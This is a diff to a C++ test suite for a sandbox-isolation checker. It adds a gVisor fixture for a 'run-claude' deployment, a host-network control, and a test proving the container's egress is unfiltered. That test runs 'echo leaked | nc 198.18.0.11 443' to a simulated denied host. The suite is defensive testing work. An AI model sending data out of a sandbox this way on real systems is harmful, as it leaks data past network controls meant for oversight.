@@ -8,9 +8,11 @@
 #include <functional>
 #include <set>
 
+#include "clusters/world/netns_socket.h"
 #include "tests/docker/docker_test_env.h"
 #include "tests/isolation/family_runner.h"
 #include "tests/test_util.h"
+#include "tools/servers/canary_sink.h"
 
 namespace sandcheck::docker_testing {
 namespace {
@@ -20,13 +22,26 @@ using isolation::testing::IsDocumentedSkip;
 using isolation::testing::LoadFixture;
 using isolation::testing::RunFamily;
 
+std::optional<Result<TestSubstrate>>& Shared() {
+  static std::optional<Result<TestSubstrate>> shared;
+  return shared;
+}
+
 // One docker substrate for the program: the image is imported once.
 Result<DockerSubstrate*> SharedDockerSubstrate() {
-  static std::optional<Result<TestSubstrate>> shared;
-  if (!shared) shared.emplace(MakeTestSubstrate());
-  if (!shared->ok()) return Fail("create the docker substrate: {}", shared->message());
-  return (*shared)->substrate.get();
+  if (!Shared()) Shared().emplace(MakeTestSubstrate());
+  if (!Shared()->ok()) return Fail("create the docker substrate: {}", Shared()->message());
+  return (*Shared())->substrate.get();
 }
+
+// Tears the shared substrate (and its world) down while main still runs: its world's `ip`
+// processes cannot be started from static destructors, where the C++ locale is already gone.
+class ReleaseSharedSubstrate : public ::testing::Environment {
+ public:
+  void TearDown() override { Shared().reset(); }
+};
+[[maybe_unused]] const auto* const kReleaseShared =
+    ::testing::AddGlobalTestEnvironment(new ReleaseSharedSubstrate);
 
 Result<Deployment> OnDocker(const std::string& fixture) {
   ASSIGN_OR_RETURN(Deployment deployment, LoadFixture(fixture));
@@ -52,12 +67,12 @@ TEST_P(DockerReferenceTest, HoldsEveryIsolationPromiseButItsFindings) {
   ASSERT_OK_AND_ASSIGN(Deployment deployment, LoadFixture(GetParam().fixture + ".yaml"));
   ASSERT_EQ(deployment.substrate, SubstrateKind::kDocker);
   auto results = RunFamily(*substrate, deployment);
-  ASSERT_EQ(results.size(), 19u);
+  ASSERT_EQ(results.size(), 20u);
   for (const auto& [id, result] : results) {
     RecordProperty(id, result.summary);
-    Verdict expected = IsDocumentedSkip(deployment.runtime, id) ? Verdict::kSkip
-                       : GetParam().failing.contains(id)        ? Verdict::kFail
-                                                                : Verdict::kPass;
+    Verdict expected = GetParam().failing.contains(id)            ? Verdict::kFail
+                       : IsDocumentedSkip(deployment.runtime, id) ? Verdict::kSkip
+                                                                  : Verdict::kPass;
     EXPECT_EQ(result.verdict, expected)
         << id << " " << ToString(result.verdict) << ": " << result.summary << "\n"
         << result.evidence.dump(2);
@@ -67,12 +82,41 @@ TEST_P(DockerReferenceTest, HoldsEveryIsolationPromiseButItsFindings) {
 INSTANTIATE_TEST_SUITE_P(Docker, DockerReferenceTest,
                          ::testing::Values(DockerReference{"docker-reference-runc", {}},
                                            DockerReference{"docker-reference-runsc", {}},
-                                           DockerReference{"seed-001-phase01-docker", {"ISO-005"}}),
+                                           DockerReference{"seed-001-phase01-docker", {"ISO-005"}},
+                                           // run-claude.sh passes no hardening flag; gVisor
+                                           // mounts a /tmp of its own (ISO-010).
+                                           DockerReference{
+                                               "seed-003-run-claude-gvisor-docker",
+                                               {"ISO-003", "ISO-007", "ISO-008", "ISO-009",
+                                                "ISO-010", "ISO-017", "ISO-018", "ISO-019"}}),
                          [](const auto& info) {
                            std::string name = info.param.fixture;
                            std::replace(name.begin(), name.end(), '-', '_');
                            return name;
                          });
+
+// Seed 003's documented weakness, shown by doing: its gVisor container reaches a world host
+// no allowlist would let through (the "denied" host), because nothing filters egress. When the
+// egress checks land, their "outside the allowlist" check must fail on this fixture.
+TEST(Seed003OnDocker, ReachesAHostNoAllowlistAdmits) {
+  SKIP_WITHOUT_DOCKER_ENGINE();
+  ASSERT_OK_AND_ASSIGN(DockerSubstrate * substrate, SharedDockerSubstrate());
+  ASSERT_OK_AND_ASSIGN(Deployment deployment,
+                       LoadFixture("seed-003-run-claude-gvisor-docker.yaml"));
+  if (substrate->Capabilities(deployment.runtime).runtime_version.empty()) {
+    GTEST_SKIP() << "SKIPPED: runsc is not registered with this engine";
+  }
+  ASSERT_OK_AND_ASSIGN(World * world, substrate->EnsureWorld());
+  ASSERT_OK_AND_ASSIGN(int fd, ListenInNamespace(world->Host("denied")->path(), 443));
+  ASSERT_OK_AND_ASSIGN(auto denied, CanarySink::Start(fd));
+  ASSERT_OK_AND_ASSIGN(SandboxLease sandbox, substrate->Acquire(deployment, {.purpose = "seed3"}));
+  ExecRequest send;
+  send.argv = {"/bin/sh", "-c", "echo leaked | nc 198.18.0.11 443"};
+  ASSERT_OK_AND_ASSIGN(ProcessOutcome sent, sandbox->Exec(send));
+  EXPECT_TRUE(sent.Succeeded()) << sent.DescribeEnd() << ": " << sent.err;
+  ASSERT_OK_AND_ASSIGN(auto receipts, denied->WaitForReceipts(1, std::chrono::seconds(10)));
+  EXPECT_EQ(receipts[0].bytes, "leaked\n");
+}
 
 struct DockerControl {
   std::string fixture;
@@ -108,6 +152,7 @@ std::vector<DockerControl> Controls() {
        nullptr,
        "docker_pid_host"},
       {"negative/docker-cap-sys-admin.yaml", {"ISO-002"}, nullptr, "docker_cap_sys_admin"},
+      {"negative/docker-network-host.yaml", {"ISO-020"}, nullptr, "docker_network_host"},
   };
   return controls;
 }
